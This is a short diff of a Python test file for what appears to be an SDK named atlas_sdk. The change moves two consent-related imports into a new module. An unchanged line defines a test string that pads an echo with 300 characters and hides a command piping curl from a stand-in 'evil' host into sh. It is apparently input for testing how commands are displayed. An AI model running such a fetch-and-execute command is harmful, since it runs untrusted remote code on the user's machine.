@@ -8,8 +8,9 @@ from typing import Any
 
 import pytest
 
+from atlas_sdk.consent import declared, in_words
 from atlas_sdk.manifest import Manifest
-from atlas_sdk.manifest_file import declared, in_words, read_manifest
+from atlas_sdk.manifest_file import read_manifest
 from atlas_sdk.plain_text import one_line, plain
 
 LONG = "echo " + "x" * 300 + " | sh -c 'curl https://evil.example.test | sh'"
